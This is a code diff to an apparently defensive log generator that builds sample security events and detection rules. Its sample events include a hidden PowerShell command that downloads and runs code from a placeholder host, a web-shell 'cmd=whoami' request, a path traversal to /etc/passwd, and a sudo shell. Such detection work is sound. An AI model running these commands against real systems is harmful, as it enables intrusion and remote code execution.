@@ -27,7 +27,9 @@ const two = (n) => String(n).padStart(2, '0');
 
 function syslogTime(time) {
   const d = new Date(time);
-  const month = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'][d.getUTCMonth()];
+  const month = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'][
+    d.getUTCMonth()
+  ];
   const clock = `${two(d.getUTCHours())}:${two(d.getUTCMinutes())}:${two(d.getUTCSeconds())}`;
   return `${month} ${String(d.getUTCDate()).padStart(2)} ${clock}`;
 }
@@ -52,7 +54,11 @@ function sshFailure(time, ip = pick(OUTSIDE), user = pick(USERS)) {
   };
 }
 
-function access(time, path = pick(['/', '/news/2026/0301.htm', '/api/course?page=2', '/static/app.css']), ip) {
+function access(
+  time,
+  path = pick(['/', '/news/2026/0301.htm', '/api/course?page=2', '/static/app.css']),
+  ip,
+) {
   const host = pick(WEB);
   const source = ip ?? pick([...INSIDE, ...OUTSIDE]);
   const status = path.includes('passwd') ? 404 : pick([200, 200, 200, 304, 502]);
@@ -93,7 +99,12 @@ function sudo(time, command = '/usr/bin/systemctl restart nginx') {
 function windows(time, command = 'powershell.exe -NoProfile -File C:\\ops\\inventory.ps1') {
   const host = pick(['WIN-CW-03', 'WIN-LIB-11']);
   const user = pick(USERS);
-  const event = { '@timestamp': new Date(time).toISOString(), Channel: 'Security', EventID: 4688, Hostname: host };
+  const event = {
+    '@timestamp': new Date(time).toISOString(),
+    Channel: 'Security',
+    EventID: 4688,
+    Hostname: host,
+  };
   return {
     raw: JSON.stringify({ ...event, CommandLine: command, SubjectUserName: user }),
     fields: {
@@ -128,7 +139,10 @@ export const RULES = [
     tactics: ['persistence', 'initial-access'],
     techniques: ['T1505.003'],
     make: (time) => access(time, '/upload/2026/a.php?cmd=whoami', '203.0.113.66'),
-    why: { selection: { 'url.path': '/upload/2026/a.php?cmd=whoami' }, selection_method: { 'http.request.method': 'GET' } },
+    tests: [
+      ['selection_query', 'url.path', '*?cmd=*'],
+      ['selection_method', 'http.request.method', 'GET'],
+    ],
     often: 2,
   },
   {
@@ -138,7 +152,10 @@ export const RULES = [
     tactics: ['credential-access'],
     techniques: ['T1110.001'],
     make: (time) => sshFailure(time, '203.0.113.7', 'root'),
-    why: { selection: { 'event.outcome': 'failure', 'source.ip': '203.0.113.7' }, keywords: ['Failed password'] },
+    tests: [
+      ['selection', 'event.outcome', 'failure'],
+      ['keywords', null, '*Failed password*'],
+    ],
     often: 19,
   },
   {
@@ -147,8 +164,16 @@ export const RULES = [
     level: 'high',
     tactics: ['execution', 'command-and-control'],
     techniques: ['T1059.001', 'T1105'],
-    make: (time) => windows(time, 'powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://192.0.2.144/a\')"'),
-    why: { selection_img: { 'process.executable': 'powershell.exe' }, selection_cli: { 'process.command_line': ['DownloadString', 'IEX'] } },
+    make: (time) =>
+      windows(
+        time,
+        'powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://192.0.2.144/a\')"',
+      ),
+    tests: [
+      ['selection_img', 'process.executable', '*\\\\powershell.exe'],
+      ['selection_cli', 'process.command_line', '*DownloadString*'],
+      ['selection_cli', 'process.command_line', '*IEX*'],
+    ],
     often: 6,
   },
   {
@@ -158,7 +183,7 @@ export const RULES = [
     tactics: ['initial_access', 'discovery'],
     techniques: ['T1190'],
     make: (time) => access(time, '/download?file=../../../../etc/passwd', '198.51.100.23'),
-    why: { selection: { 'url.path': '../../../../etc/passwd' } },
+    tests: [['selection', 'url.path', '*../../*/passwd*']],
     often: 47,
   },
   {
@@ -168,7 +193,7 @@ export const RULES = [
     tactics: ['privilege-escalation'],
     techniques: ['T1548.003'],
     make: (time) => sudo(time, '/bin/bash'),
-    why: { selection: { 'process.command_line': '/bin/bash' } },
+    tests: [['selection', 'process.command_line', '/bin/bash']],
     often: 31,
   },
   {
@@ -178,7 +203,7 @@ export const RULES = [
     tactics: ['reconnaissance'],
     techniques: ['T1595.002'],
     make: (time) => access(time, '/phpmyadmin/', '198.51.100.200'),
-    why: { selection: { 'url.path': '/phpmyadmin/' } },
+    tests: [['selection', 'url.path', '/phpmyadmin/*']],
     often: 80,
   },
 ];
@@ -198,6 +223,14 @@ tags:
 ${rule.tactics.map((tactic) => `    - attack.${tactic}`).join('\n')}
 ${rule.techniques.map((technique) => `    - attack.${technique.toLowerCase()}`).join('\n')}
 `;
+
+/** As the detector explains a match: selections that hold, and in each the tests that hold. */
+function whyOf({ tests }, { fields }) {
+  const names = [...new Set(tests.map(([name]) => name))];
+  const match = ([, field, pattern]) => ({ field, value: String(fields[field ?? 'message']), pattern });
+  const matches = (name) => tests.filter(([selection]) => selection === name).map(match);
+  return { selections: names.map((name) => ({ name, matches: matches(name) })) };
+}
 
 /** More in working hours, as on a campus. */
 function timeOfDay(now) {
@@ -238,7 +271,8 @@ function toAlert(event, rule, index) {
     techniques: rule.techniques,
     rule_yaml: yamlOf(rule),
     rule_description: 'Looks for what attackers do at this stage; see the matched fields below.',
-    why: rule.why,
+    why: whyOf(rule, event),
+    history: [],
     event,
   };
 }
